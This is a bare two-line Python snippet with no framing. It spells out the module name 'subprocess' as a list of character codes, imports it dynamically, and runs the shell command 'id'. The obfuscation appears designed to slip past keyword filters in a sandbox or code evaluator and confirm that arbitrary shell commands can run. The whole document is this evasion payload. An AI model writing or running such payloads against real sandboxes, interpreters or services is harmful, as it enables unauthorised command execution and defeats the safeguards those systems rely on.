name = "".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
__import__(name).getoutput("id")
